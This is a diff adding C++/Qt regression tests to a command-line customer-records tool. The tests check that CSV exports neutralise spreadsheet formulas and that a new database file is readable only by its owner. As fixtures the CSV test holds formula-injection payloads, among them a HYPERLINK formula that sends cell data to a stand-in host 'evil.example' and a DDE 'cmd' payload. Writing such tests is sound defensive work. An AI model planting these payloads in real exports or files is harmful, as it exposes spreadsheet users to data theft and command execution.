@@ -286,6 +286,37 @@ TEST_F(FoundationCommandsTest, CsvAndJsonListingsParseBackAndAreLoggedAsExports)
               1);
 }
 
+TEST_F(FoundationCommandsTest, CsvListingsNeutraliseFormulas)
+{
+    // Finding 4 of issue #17: texts a spreadsheet would run as a formula came out as they were stored.
+    const QStringList formulas{QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
+                               QStringLiteral("+cmd|' /C calc'!A0"), QStringLiteral("-2+3"),
+                               QStringLiteral("@SUM(A1)")}; // a leading tab or CR: CsvFieldTest (names are trimmed)
+    for (const QString& name : formulas)
+        createCustomer(QStringLiteral("admin"), name);
+    createCustomer(QStringLiteral("admin"), QStringLiteral("-12.5")); // a plain number stays as it is
+
+    const CliRun csv = runAs(QStringLiteral("admin"), {QStringLiteral("customers"), QStringLiteral("list"),
+                                                       QStringLiteral("--format"), QStringLiteral("csv")});
+    ASSERT_EQ(csv.code, 0) << csv.err.toStdString();
+    const QList<QStringList> rows = parseCsv(csv.out);
+    ASSERT_EQ(rows.size(), formulas.size() + 2) << csv.out.toStdString();
+    QStringList names;
+    for (qsizetype i = 1; i < rows.size(); ++i)
+        names << rows[i][2];
+    for (const QString& formula : formulas)
+        EXPECT_TRUE(names.contains(QLatin1Char('\'') + formula))
+            << formula.toStdString() << " in " << csv.out.toStdString();
+    EXPECT_TRUE(names.contains(QStringLiteral("-12.5")));
+    for (const QString& name : names)
+        EXPECT_FALSE(QStringLiteral("=+-@\t\r").contains(name.front()) && name != QStringLiteral("-12.5"))
+            << name.toStdString();
+    // The JSON and the table keep the stored text: only spreadsheets run formulas.
+    const CliRun json = runAs(QStringLiteral("admin"), {QStringLiteral("customers"), QStringLiteral("list"),
+                                                        QStringLiteral("--format"), QStringLiteral("json")});
+    EXPECT_TRUE(jsonColumn(parseArray(json.out), QStringLiteral("name")).contains(formulas[3]));
+}
+
 TEST_F(FoundationCommandsTest, CustomerShowPrintsTheCardAsJson)
 {
     const core::Customer card = createCustomer(QStringLiteral("admin"), QStringLiteral("上海华联商贸有限公司"));
@@ -383,6 +414,26 @@ TEST_F(FoundationCommandsTest, CheckPrintsOk)
     // A new office has next to no free pages: no advice to optimize.
     EXPECT_FALSE(run.out.contains(QStringLiteral("optimize"))) << run.out.toStdString();
     EXPECT_TRUE(run.err.isEmpty());
+}
+
+TEST_F(FoundationCommandsTest, ANewOfficeIsTheOwnersOnlyAndCheckWarnsWhenItIsNot)
+{
+    // Issue #17, finding 1: init made the office 0644 (with the usual umask), readable by every account.
+    const QFileDevice::Permissions others =
+        QFileDevice::ReadGroup | QFileDevice::WriteGroup | QFileDevice::ReadOther | QFileDevice::WriteOther;
+    EXPECT_EQ(QFile::permissions(m_dbPath) & others, QFileDevice::Permissions()) << "made by init in SetUp";
+    CliRun run = runAs(QStringLiteral("admin"), {QStringLiteral("check")});
+    ASSERT_EQ(run.code, 0) << run.err.toStdString();
+    EXPECT_TRUE(run.err.isEmpty()) << run.err.toStdString();
+
+    ASSERT_TRUE(QFile::setPermissions(m_dbPath,
+                                      QFile::permissions(m_dbPath) | QFileDevice::ReadGroup | QFileDevice::ReadOther));
+    run = runAs(QStringLiteral("admin"), {QStringLiteral("check")});
+    EXPECT_EQ(run.code, 0) << "not damage: the check itself passes";
+    EXPECT_TRUE(run.out.startsWith(QLatin1String("ok:"))) << run.out.toStdString();
+    EXPECT_TRUE(run.err.contains(QLatin1String("warning: "))) << run.err.toStdString();
+    EXPECT_TRUE(run.err.contains(QLatin1String("other accounts"))) << run.err.toStdString();
+    EXPECT_TRUE(run.err.contains(QLatin1String("chmod 600"))) << run.err.toStdString();
 }
 
 TEST_F(FoundationCommandsTest, UsageAndLoginErrorsHaveTheirExitCodesAndGoToStderr)
